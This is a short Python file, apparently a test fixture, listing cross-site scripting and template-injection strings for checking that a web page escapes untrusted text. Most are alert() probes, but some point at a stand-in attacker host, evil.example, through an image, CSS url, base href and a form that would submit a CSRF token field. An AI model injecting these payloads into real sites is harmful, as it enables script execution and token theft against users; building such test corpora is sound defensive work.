"""Texts that would run, load or lead astray, if a page took them for markup."""

CORPUS = (
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '" autofocus onfocus="alert(1)',
    "{{ 7|add:7 }}{% debug %}",
    "<!--<img src=//evil.example/x>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
)
ALL = " ".join(CORPUS)
SHORT = '"><img src=x onerror=alert(1)><script>alert(1)</script>'  # for names of 120 characters
